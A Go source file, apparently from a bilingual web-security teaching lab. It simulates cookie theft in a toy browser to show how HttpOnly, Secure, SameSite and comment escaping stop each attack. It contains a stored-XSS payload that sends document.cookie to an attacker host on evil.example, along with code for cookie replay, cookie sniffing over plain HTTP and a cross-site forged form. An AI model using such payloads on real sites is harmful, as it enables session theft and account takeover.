package httpdemo

import (
	"errors"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"regexp"
	"strings"
	"time"

	"statelab/capture/http1"
	"statelab/capture/trace"
)

// The second half of the lesson: attacks that succeed without an attribute of the
// login's cookie, and fail with it.

// names are what the browsers know of the hosts.
func (l *cookieVisit) names() map[string]netip.AddrPort {
	all := map[string]netip.AddrPort{}
	for p, hosts := range map[*trace.Participant][]string{
		&Server: {cookieShopHost, cookiePlainHost}, &Attacker: {cookieEvilHost, cookieSiblingHost},
	} {
		for _, h := range hosts {
			u, err := url.Parse(l.url(*p, h, "/"))
			if err == nil { // it is written above
				all[u.Host] = l.Machine(*p).At
			}
		}
	}
	return all
}

// login begins anew, with a login's cookie that has these attributes.
func (l *cookieVisit) login(host string, attributes ...string) (*Response, error) {
	l.browser.DeleteCookies()
	return l.loginAs(l.browser, "user1", host, attributes...)
}

func (l *cookieVisit) loginAs(b *Browser, user, host string, attributes ...string) (*Response, error) {
	form := []http1.Field{{Name: "user", Value: user}}
	for _, a := range attributes {
		name, value, _ := strings.Cut(a, "=")
		form = append(form, http1.Field{Name: name, Value: value})
	}
	target := l.url(Server, host, "/cookie/login")
	return l.ask(b, http.StatusNoContent, Request{
		Method: http.MethodPost, URL: target, From: target, Type: "application/x-www-form-urlencoded", Body: encodeForm(form),
	})
}

// account asks whose login the browser brings, and wants it to be that user's;
// nobody's if it is empty.
func (l *cookieVisit) account(b *Browser, target, user string) error {
	want := http.StatusOK
	if user == "" {
		want = http.StatusUnauthorized
	}
	r, err := l.ask(b, want, Request{URL: target})
	if err == nil && !strings.Contains(r.Text, user) {
		err = fmt.Errorf("%s is not %s's account: %s", target, user, r.Text)
	}
	return err
}

// stealing is the one kind of script that the lesson's browser understands.
var stealing = regexp.MustCompile(`^new Image\(\)\.src="([^"]+)"\+encodeURIComponent\(document\.cookie\)$`)

// httpOnly: a script in a comment, and what it reads.
func (l *cookieVisit) httpOnly() error {
	l.Step(trace.Text{
		En: "HttpOnly. The attacker leaves a comment with a script in it; the guest book shows it as it came (attackable on purpose)",
		Ko: "HttpOnly. 공격자가 스크립트가 든 댓글을 남기고, 방명록은 그것을 받은 그대로 보여 줍니다(일부러 공격할 수 있게 한 것)",
	})
	l.browser.DeleteCookies()
	script := `<script>new Image().src="` + l.url(Attacker, cookieEvilHost, "/evil/take?c=") + `"+encodeURIComponent(document.cookie)</script>`
	target := l.url(Server, cookieShopHost, "/cookie/guestbook")
	if _, err := l.ask(l.attacker, http.StatusNoContent, Request{
		Method: http.MethodPost, URL: target, Type: "application/x-www-form-urlencoded",
		Body: encodeForm([]http1.Field{{Name: "comment", Value: script}}),
	}); err != nil {
		return err
	}
	page := l.url(Server, cookieShopHost, attackablePath+"guestbook")
	account := l.url(Server, cookieShopHost, "/cookie/account")
	for _, c := range []struct {
		step       trace.Text
		attributes []string
		taken      bool
	}{
		{trace.Text{En: "Without HttpOnly: the script sends the login away, and the attacker uses it", Ko: "HttpOnly 없이: 스크립트가 로그인 쿠키를 빼돌리고, 공격자가 그것을 씁니다"}, nil, true},
		{trace.Text{En: "With HttpOnly: the same script finds nothing", Ko: "HttpOnly를 붙이면: 같은 스크립트가 아무것도 찾지 못합니다"}, []string{"httponly"}, false},
	} {
		l.Step(c.step)
		if _, err := l.login(cookieShopHost, c.attributes...); err != nil {
			return err
		}
		if ran, err := l.open(page); err != nil || ran != 1 {
			return errors.Join(err, fmt.Errorf("%d scripts ran, not 1", ran))
		}
		if got := l.evil.last(); (got != "") != c.taken {
			return fmt.Errorf("the attacker got %q", got)
		}
		if err := l.replay(account, l.evil.last()); err != nil {
			return err
		}
	}
	l.Step(trace.Text{En: "The cure of the cause: a page that escapes comments has no script to run, and its policy would run none", Ko: "원인의 해결: 댓글을 이스케이프하는 페이지에는 실행할 스크립트가 없고, 있어도 정책이 막습니다"})
	if ran, err := l.open(target); err != nil || ran != 0 {
		return errors.Join(err, fmt.Errorf("%d scripts ran, not 0", ran))
	}
	return nil
}

// open goes to a page and does what its scripts say, as far as the lesson's
// browser understands them. It returns how many it ran.
func (l *cookieVisit) open(page string) (ran int, err error) {
	r, err := l.ask(l.browser, http.StatusOK, Request{URL: page})
	if err != nil {
		return 0, err
	}
	scripts, _ := parts(r.Text)
	for _, s := range scripts {
		m := stealing.FindStringSubmatch(s)
		if m == nil {
			continue
		}
		seen, err := l.browser.DocumentCookie(page)
		if err != nil {
			return ran, err
		}
		l.Note(trace.Text{
			En: fmt.Sprintf("The page's script runs in the client's browser; document.cookie is %q.", seen),
			Ko: fmt.Sprintf("페이지의 스크립트가 클라이언트의 브라우저에서 실행됩니다. document.cookie는 %q입니다.", seen),
		})
		if _, err := l.ask(l.browser, http.StatusNoContent, Request{URL: m[1] + url.QueryEscape(seen), From: page, Script: true}); err != nil {
			return ran, err
		}
		ran++
	}
	return ran, nil
}

// replay lets the attacker send a login that was not theirs, from another machine.
func (l *cookieVisit) replay(target, cookie string) error {
	q, want := Request{URL: target, NoCookies: true}, http.StatusUnauthorized
	if cookie != "" {
		q.Fields, want = []http1.Field{{Name: "Cookie", Value: cookie}}, http.StatusOK
	}
	_, err := l.ask(l.attacker, want, q)
	return err
}

// secure: what goes over plain HTTP can be read on the way.
func (l *cookieVisit) secure() error {
	account := l.url(Server, cookiePlainHost, "/cookie/account")
	l.Step(trace.Text{
		En: "Without Secure, over plain HTTP: the login stands on the wire for whoever is on the way to read and to use",
		Ko: "Secure 없이, 평문 HTTP로: 로그인 쿠키가 회선에 그대로 보이고, 중간에 있는 사람은 누구나 읽어서 쓸 수 있습니다",
	})
	if _, err := l.login(cookiePlainHost, "httponly"); err != nil {
		return err
	}
	before := l.wire.Len()
	if err := l.account(l.browser, account, "user1"); err != nil {
		return err
	}
	read := cookieOnWire.FindStringSubmatch(l.wire.after(before))
	if read == nil {
		return errors.New("no login was on the wire")
	}
	if err := l.replay(l.url(Server, cookieShopHost, "/cookie/account"), read[1]); err != nil {
		return err
	}
	l.Step(trace.Text{
		En: "With Secure: the browser does not take it over plain HTTP, and would never send it there (lesson theft has TLS beside it)",
		Ko: "Secure를 붙이면: 브라우저가 평문 HTTP로는 받지도 보내지도 않습니다(TLS와의 비교는 theft 레슨에 있습니다)",
	})
	r, err := l.login(cookiePlainHost, "httponly", "secure")
	if err != nil {
		return err
	}
	if r.Refused[cookieLogin] != "secure" {
		return errors.New("the browser kept a Secure cookie from plain HTTP")
	}
	before = l.wire.Len()
	if err := l.account(l.browser, account, ""); err != nil {
		return err
	}
	if read := cookieOnWire.FindString(l.wire.after(before)); read != "" {
		return fmt.Errorf("on the wire was %q", read)
	}
	return nil
}

// cookieOnWire finds what a request on the wire brings.
var cookieOnWire = regexp.MustCompile(`\r\nCookie: ([^\r]+)\r\n`)

// sameSite: another site's form, sent in the user's name.
func (l *cookieVisit) sameSite() error {
	evil := l.url(Attacker, cookieEvilHost, "/evil/")
	visit := func(want int) error {
		r, err := l.ask(l.browser, http.StatusOK, Request{URL: evil})
		if err != nil {
			return err
		}
		_, forms := parts(r.Text)
		if len(forms) != 1 {
			return fmt.Errorf("the attacker's page has %d forms", len(forms))
		}
		_, err = l.ask(l.browser, want, Request{
			Method: http.MethodPost, URL: forms[0].action, From: evil, Type: "application/x-www-form-urlencoded", Body: encodeForm(forms[0].fields),
		})
		return err
	}
	for _, c := range []struct {
		step       trace.Text
		attributes []string
		want       int
	}{
		{
			trace.Text{
				En: "Without SameSite, in a browser that sends a cookie so young with another site's form: a page at evil.example gives 100 points away in the user's name",
				Ko: "SameSite 없이, 갓 만든 쿠키는 다른 사이트의 폼에도 실어 보내는 브라우저에서: evil.example의 페이지가 사용자의 이름으로 100점을 남에게 줍니다",
			},
			nil, http.StatusOK,
		},
		{
			trace.Text{En: "With SameSite=Lax: the same form arrives without the cookie", Ko: "SameSite=Lax를 붙이면: 같은 폼이 쿠키 없이 도착합니다"},
			[]string{"samesite=lax"},
			http.StatusUnauthorized,
		},
	} {
		l.Step(c.step)
		if _, err := l.login(cookieShopHost, c.attributes...); err != nil {
			return err
		}
		l.browser.Jar.LaxAllowingUnsafe = 2 * time.Minute
		if err := visit(c.want); err != nil {
			return err
		}
	}
	l.Step(trace.Text{En: "The server's own protection: with the cookie, but with another site's Origin, it refuses", Ko: "서버 자신의 보호: 쿠키가 함께 와도 Origin이 다른 사이트이면 거절합니다"})
	if _, err := l.login(cookieShopHost); err != nil {
		return err
	}
	l.browser.Jar.LaxAllowingUnsafe = 2 * time.Minute
	_, err := l.ask(l.browser, http.StatusForbidden, Request{
		Method: http.MethodPost, URL: l.url(Server, cookieShopHost, "/cookie/gift"), From: evil,
		Type: "application/x-www-form-urlencoded", Body: "to=mallory&points=100",
	})
	return err
}
